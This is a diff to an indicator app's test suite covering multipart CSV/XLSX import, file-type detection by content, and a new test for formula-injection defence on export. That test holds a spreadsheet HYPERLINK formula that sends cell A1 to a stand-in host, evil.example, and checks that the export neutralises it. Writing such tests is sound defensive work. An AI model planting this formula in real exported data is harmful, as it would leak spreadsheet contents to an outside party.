@@ -1,9 +1,11 @@
 import { and, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import * as XLSX from 'xlsx';
 import type { Dashboard } from '../../../shared/contracts/indicators.js';
 import { buildTestApp, type TestApp } from '../../../../tests/support/app.js';
 import { as, enrolTotp, signIn, testPassword, userWithRoles, type Browser } from '../../../../tests/support/sessions.js';
+import { multipartFile, pdfBytes } from '../../../../tests/support/uploads.js';
 import { auditEvents } from '../../db/platform-schema.js';
 import { systemContext } from '../../lib/context.js';
 import { notifications } from '../notifications/schema.js';
@@ -198,8 +200,7 @@ describe('approving and returning values', () => {
 });
 
 describe('import and export', () => {
-  const upload = (browser: Browser, format: 'csv' | 'xlsx', bytes: Buffer) =>
-    as(t.app, browser)({ method: 'POST', url: '/api/indicators/import', payload: { format, contentBase64: bytes.toString('base64') } });
+  const upload = (browser: Browser, fileName: string, bytes: Buffer) => as(t.app, browser)({ method: 'POST', url: '/api/indicators/import', ...multipartFile(fileName, bytes) });
   const count = async () => (await t.testDb.database.db.select({ id: indicatorObservations.id }).from(indicatorObservations)).length;
 
   it('errs per row and imports nothing when any row is wrong', async () => {
@@ -212,7 +213,7 @@ describe('import and export', () => {
       'DN-KHCN,2026,"1,5",',
       'KTS-GRDP,2026,28,',
     ].join('\n');
-    const res = await upload(officer, 'csv', Buffer.from(csv));
+    const res = await upload(officer, 'so-lieu.csv', Buffer.from(csv));
     expect(res.statusCode).toBe(400);
     const error = res.json().error;
     expect(error.code).toBe('VALIDATION');
@@ -229,7 +230,7 @@ describe('import and export', () => {
 
   it('imports a good CSV and a good XLSX as values awaiting review', async () => {
     const csv = Buffer.from('\ufeffindicator_code,period,value,source_note\nNHOM-NC,2026,140,Danh sách nhóm nghiên cứu\n');
-    const res = await upload(officer, 'csv', csv);
+    const res = await upload(officer, 'so-lieu.csv', csv);
     expect(res.statusCode, res.body).toBe(201);
     expect(res.json().imported).toBe(1);
 
@@ -240,17 +241,21 @@ describe('import and export', () => {
     ]);
     const book = XLSX.utils.book_new();
     XLSX.utils.book_append_sheet(book, sheet, 'values');
-    const xlsx = await upload(officer, 'xlsx', Buffer.from(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array));
+    // Named .csv, read as the workbook it is.
+    const xlsx = await upload(officer, 'so-lieu.csv', Buffer.from(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array));
     expect(xlsx.statusCode, xlsx.body).toBe(201);
     expect(xlsx.json().imported).toBe(2);
     const rows = await t.testDb.database.db.select().from(indicatorObservations).where(eq(indicatorObservations.period, '2026'));
     expect(rows.filter((r) => r.status === 'submitted').length).toBeGreaterThanOrEqual(3);
   });
 
-  it('refuses a file that is not a spreadsheet with 400', async () => {
-    const res = await upload(officer, 'xlsx', Buffer.from('not a workbook at all'));
-    expect(res.statusCode).toBe(400);
-    expect(res.json().error.message.en).toBe('The XLSX file could not be read (damaged, or not an Excel file)');
+  it('refuses a file that is neither CSV nor XLSX by its content with 415, and text without the columns with 400', async () => {
+    const pdf = await upload(officer, 'so-lieu.xlsx', pdfBytes);
+    expect(pdf.statusCode).toBe(415);
+    expect(pdf.json().error.message.en).toBe("File type of 'so-lieu.xlsx' is not accepted (detected: application/pdf); accepted: Excel (XLSX), CSV, plain text");
+    const text = await upload(officer, 'so-lieu.xlsx', Buffer.from('not a workbook at all'));
+    expect(text.statusCode).toBe(400);
+    expect(text.json().error.message.en).toBe('The header row lacks the column(s): indicator_code, period, value');
   });
 
   it('exports the approved public values as XLSX (read back with SheetJS) and CSV with the import columns first', async () => {
@@ -261,7 +266,30 @@ describe('import and export', () => {
     expect(rows.find((r) => r.indicator_code === 'KTS-GRDP' && r.period === '2025')).toMatchObject({ value: 27, is_illustrative: 'true' });
     const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
     expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(csv.body.split('\n')[0]).toBe('\ufeffindicator_code,period,value,source_note,indicator_name_vi,indicator_name_en,unit,is_illustrative');
+    expect(csv.body.split('\r\n')[0]).toBe('\ufeffindicator_code,period,value,source_note,indicator_name_vi,indicator_name_en,unit,is_illustrative');
+  });
+
+  it("neutralises an officer's formula in the public CSV and XLSX: the note is text, the value stays a number", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Nguồn: Cục Thống kê")';
+    const sent = await as(t.app, officer)({ method: 'POST', url: `/api/indicators/${ids.get('NL-KHCN')}/observations`, payload: { period: '2025', value: 21400, sourceNote: formula } });
+    expect(sent.statusCode, sent.body).toBe(201);
+    expect((await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${sent.json().id}/approve` })).statusCode).toBe(200);
+
+    const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
+    const records = parse(csv.body, { bom: true }) as string[][];
+    expect(records.find((r) => r[0] === 'NL-KHCN' && r[1] === '2025')?.slice(2, 4)).toEqual(['21400', `'${formula}`]);
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+
+    const xlsx = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=xlsx' });
+    const book = XLSX.read(xlsx.rawPayload, { type: 'buffer' });
+    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]!]!);
+    expect(rows.find((r) => r.indicator_code === 'NL-KHCN' && r.period === '2025')).toMatchObject({ value: 21400, source_note: `'${formula}` });
+
+    // Edited and imported back, the note is the officer's text again, not the apostrophe.
+    const back = await as(t.app, officer)({ method: 'POST', url: '/api/indicators/import', ...multipartFile('sua.csv', Buffer.from(`indicator_code,period,value,source_note\r\nNL-KHCN,2025,21500,"'${formula.replaceAll('"', '""')}"\r\n`)) });
+    expect(back.statusCode, back.body).toBe(201);
+    const [revised] = await t.testDb.database.db.select().from(indicatorObservations).where(eq(indicatorObservations.id, back.json().observationIds[0]));
+    expect(revised?.sourceNote).toBe(formula);
   });
 });
 
@@ -322,11 +350,7 @@ describe('defining indicators (programme managers)', () => {
 });
 
 describe('evidence attached to a value', () => {
-  const multipartBody = (fileName: string, content: string) => {
-    const boundary = '----doimoi-test-boundary';
-    const payload = [`--${boundary}`, `Content-Disposition: form-data; name="file"; filename="${fileName}"`, 'Content-Type: text/plain', '', content, `--${boundary}--`, ''].join('\r\n');
-    return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
-  };
+  const multipartBody = (fileName: string, content: string) => multipartFile(fileName, Buffer.from(content), { contentType: 'text/plain' });
 
   it('takes a file from an officer of the responsible unit, names it in a value, and lets only staff of that unit download it', async () => {
     const url = `/api/indicators/${ids.get('NHOM-NC')}/attachments`;
